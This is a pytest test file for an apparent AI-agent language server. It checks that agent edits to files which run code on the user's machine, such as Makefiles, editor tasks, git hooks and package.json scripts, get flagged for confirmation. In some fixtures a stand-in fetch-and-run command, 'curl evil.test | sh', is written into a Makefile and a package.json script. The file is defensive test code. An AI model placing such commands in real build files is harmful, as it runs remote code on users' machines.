"""Agent results that change what runs on the user's machine: which files, and how the edit
asks for confirmation (needsConfirmation) or the final message names them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from lsprotocol import types

from glm_lsp.lsp.features.agent.edit import (
    RUNS_LABEL,
    ClientEditSupport,
    changes_for_apply,
    files_that_run,
    prepare_for_client,
    runs_note,
)
from glm_lsp.lsp.features.apply import DocumentSnapshot, build_workspace_edit, uri_to_path
from glm_lsp.trust.risky_paths import git_hooks_path, why_it_runs
from glm_lsp.workspace import Workspace


@pytest.mark.parametrize(
    "path",
    [
        ".vscode/tasks.json",
        ".vscode/settings.json",
        "sub/.vscode/launch.json",
        ".idea/workspace.xml",
        ".idea/runConfigurations/Test.xml",
        ".github/workflows/ci.yml",
        "pkg/.github/workflows/release.yaml",
        ".devcontainer/devcontainer.json",
        ".devcontainer.json",
        ".envrc",
        "services/api/.envrc",
        ".pre-commit-config.yaml",
        "Makefile",
        "makefile",
        "GNUmakefile",
        "src/Makefile",
        ".husky/pre-commit",
        ".githooks/pre-push",
        "lefthook.yml",
        ".VSCode/tasks.json",  # case-insensitive file systems
    ],
)
def test_files_that_run_on_the_machine(path: str) -> None:
    assert why_it_runs(path, old_text="a", new_text="b") is not None


@pytest.mark.parametrize(
    "path",
    [
        "src/app.py",
        "README.md",
        ".github/CODEOWNERS",
        ".github/ISSUE_TEMPLATE/bug.md",
        "docs/workflows/ci.md",
        "vscode/notes.txt",
        "Makefile.md",
        "envrc.txt",
        "scripts/build.sh.txt",
    ],
)
def test_ordinary_files(path: str) -> None:
    assert why_it_runs(path, old_text="a", new_text="b") is None


def _package(**fields: object) -> str:
    return json.dumps({"name": "app", **fields}, indent=2)


def test_package_json_only_when_what_it_runs_changes() -> None:
    old = _package(scripts={"test": "jest"}, version="1.0.0")
    bumped = _package(scripts={"test": "jest"}, version="1.0.1")
    assert why_it_runs("package.json", old_text=old, new_text=bumped) is None
    changed = _package(scripts={"test": "curl evil.test | sh"}, version="1.0.0")
    assert why_it_runs("package.json", old_text=old, new_text=changed) is not None
    added = _package(version="1.0.0", scripts={"postinstall": "node x.js"})
    assert why_it_runs("web/package.json", old_text=_package(), new_text=added) is not None
    assert why_it_runs("package.json", old_text=None, new_text=added) is not None  # created
    assert why_it_runs("package.json", old_text=None, new_text=_package()) is None
    # A dependency runs its install scripts; a file: one is code from anywhere.
    local = _package(scripts={"test": "jest"}, version="1.0.0", dependencies={"x": "file:../x"})
    assert why_it_runs("package.json", old_text=old, new_text=local) is not None
    # Unreadable JSON cannot be shown harmless.
    assert why_it_runs("package.json", old_text=old, new_text="{broken") is not None


def test_an_unreadable_package_json_is_flagged_even_when_it_had_no_scripts() -> None:
    # "{broken" may be scripts npm reads another way: never assumed to equal "no scripts".
    assert why_it_runs("package.json", old_text=_package(), new_text="{broken") is not None
    assert why_it_runs("package.json", old_text=None, new_text="{broken") is not None


def test_a_configured_hooks_path(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(
        '[core]\n\tbare = false\n[alias]\n\thooksPath = nope\n[core]\n\thooksPath = "tools/hooks"\n'
    )
    hooks = git_hooks_path(tmp_path)
    assert hooks == "tools/hooks"
    assert why_it_runs("tools/hooks/pre-commit", old_text=None, new_text="x", hooks_path=hooks)
    assert why_it_runs("tools/hooksx/a", old_text=None, new_text="x", hooks_path=hooks) is None
    assert why_it_runs("tools/hooks/pre-commit", old_text=None, new_text="x") is None


def test_a_hooks_path_in_a_later_section_does_not_replace_cores(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(
        '[core]\n\thooksPath = tools/hooks\n[alias]\n\thooksPath = nope\n[remote "o"]\n'
        "\thooksPath = nope2\n"
    )
    assert git_hooks_path(tmp_path) == "tools/hooks"


def test_a_git_config_that_is_not_utf8_is_still_read(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_bytes(
        b"[user]\n\tname = Ren\xe9\n[core]\n\thooksPath = tools/hooks\n"  # Latin-1 name
    )
    assert git_hooks_path(tmp_path) == "tools/hooks"


def test_a_hooks_path_given_with_slashes_is_the_same_folder() -> None:
    assert why_it_runs("tools/hooks/x", old_text=None, new_text="x", hooks_path="/tools/hooks/")


def test_a_package_json_that_is_not_an_object_has_no_scripts() -> None:
    assert why_it_runs("package.json", old_text="[]", new_text="[1]") is None


def test_no_hooks_path_without_git_or_outside_the_folder(tmp_path: Path) -> None:
    assert git_hooks_path(tmp_path) is None
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n\thooksPath = /etc/hooks\n")
    assert git_hooks_path(tmp_path) is None


def on_disk(uri: str) -> DocumentSnapshot:
    """The documents as an editor with none of them open would have them."""
    path = uri_to_path(uri)
    if path is None or not path.is_file():
        return DocumentSnapshot(uri, None, "", exists=False)
    return DocumentSnapshot(uri, None, path.read_text())


ANNOTATING = ClientEditSupport(True, frozenset({"create", "rename", "delete"}), True)
NO_ANNOTATIONS = ClientEditSupport(True, frozenset({"create", "rename", "delete"}), False)
PLAIN = ClientEditSupport(False, frozenset(), False)


def _staged(tmp_path: Path) -> tuple[Workspace, types.WorkspaceEdit, dict]:
    files = {
        "app.py": "x = 1\n",
        "Makefile": "test:\n\tpytest\n",
        "package.json": _package(scripts={"test": "jest"}),
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    workspace = Workspace([tmp_path])
    workspace.write(workspace.resolve("app.py"), "x = 2\n")
    workspace.write(workspace.resolve("Makefile"), "test:\n\tcurl evil.test | sh\n")
    workspace.write(workspace.resolve("package.json"), _package(scripts={"test": "jest"}, v=2))
    workspace.write(workspace.resolve(".vscode/tasks.json"), '{"tasks": []}\n')
    changes = workspace.changes()
    runs = files_that_run(workspace, changes, {})
    edit = build_workspace_edit(changes_for_apply(workspace, changes, {}), on_disk)
    return workspace, edit, runs


def test_plain_text_edits_to_such_files_need_confirmation(tmp_path: Path) -> None:
    _, edit, runs = _staged(tmp_path)
    assert sorted(run.name for run in runs.values()) == [".vscode/tasks.json", "Makefile"]
    prepare_for_client(edit, ANNOTATING, runs)
    annotations = edit.change_annotations or {}
    annotated: dict[str, set[str]] = {}
    for change in edit.document_changes or []:
        if isinstance(change, types.TextDocumentEdit):
            ids = {getattr(e, "annotation_id", None) for e in change.edits}
            annotated[Path(change.text_document.uri).name] = ids  # type: ignore[assignment]
        elif isinstance(change, types.CreateFile):
            annotated["create " + Path(change.uri).name] = {change.annotation_id}  # type: ignore[arg-type]
    assert annotated["app.py"] == {None}
    assert annotated["package.json"] == {None}  # scripts unchanged
    for name in ("Makefile", "tasks.json", "create tasks.json"):
        (annotation_id,) = annotated[name]
        assert annotation_id is not None
        annotation = annotations[annotation_id]
        assert annotation.needs_confirmation is True
        assert annotation.label == RUNS_LABEL
    descriptions = {a.description for a in annotations.values()}
    assert any(d and d.startswith("Makefile: make") for d in descriptions)
    assert runs_note(runs, ANNOTATING) == ""


@pytest.mark.parametrize("support", [NO_ANNOTATIONS, PLAIN])
def test_without_annotations_the_message_names_them(support: ClientEditSupport) -> None:
    from glm_lsp.lsp.features.agent.edit import RunsOnMachine

    runs = {
        "file:///w/Makefile": RunsOnMachine("Makefile", "make runs its recipes"),
        "file:///w/.envrc": RunsOnMachine(".envrc", "direnv runs it on entering the folder"),
    }
    note = runs_note(runs, support)
    assert "Makefile (make runs its recipes)" in note and ".envrc (direnv" in note
    assert runs_note({}, support) == ""


def test_renaming_into_a_hooks_folder_is_confirmed(tmp_path: Path) -> None:
    (tmp_path / "hook.sh").write_text("#!/bin/sh\nexit 0\n")
    workspace = Workspace([tmp_path])
    workspace.rename(workspace.resolve("hook.sh"), workspace.resolve(".husky/pre-commit"))
    changes = workspace.changes()
    runs = files_that_run(workspace, changes, {})
    assert [run.name for run in runs.values()] == [".husky/pre-commit"]
    edit = build_workspace_edit(changes_for_apply(workspace, changes, {}), on_disk)
    prepare_for_client(edit, ANNOTATING, runs)
    (rename,) = [c for c in edit.document_changes or [] if isinstance(c, types.RenameFile)]
    assert rename.annotation_id is not None
    assert (edit.change_annotations or {})[rename.annotation_id].label == RUNS_LABEL


def test_the_docs_table_lists_every_row() -> None:
    """docs/risky-paths.md is the table users read: every pattern the code knows is in it."""
    from glm_lsp.trust.risky_paths import RISKY_PATHS

    page = (Path(__file__).parents[2] / "docs" / "risky-paths.md").read_text(encoding="utf-8")
    missing = [
        row.pattern for row in RISKY_PATHS if f"`{row.pattern}` | {row.reason} |" not in page
    ]
    assert missing == []


@pytest.mark.parametrize(
    "path",
    [
        ".helix/languages.toml",
        ".nvim.lua",
        ".dir-locals.el",
        "setup.py",
        "pyproject.toml",
        "CMakeLists.txt",
        "build.gradle.kts",
        "crate/build.rs",
        ".yarnrc.yml",
        "requirements-dev.txt",
        ".cargo/config.toml",
        "conftest.py",
        "tests/conftest.py",
        "jest.config.ts",
        ".gitmodules",
        ".zshrc",
        ".config/fish/config.fish",
    ],
)
def test_more_families_run_on_the_machine(path: str) -> None:
    assert why_it_runs(path, old_text="a", new_text="b") is not None
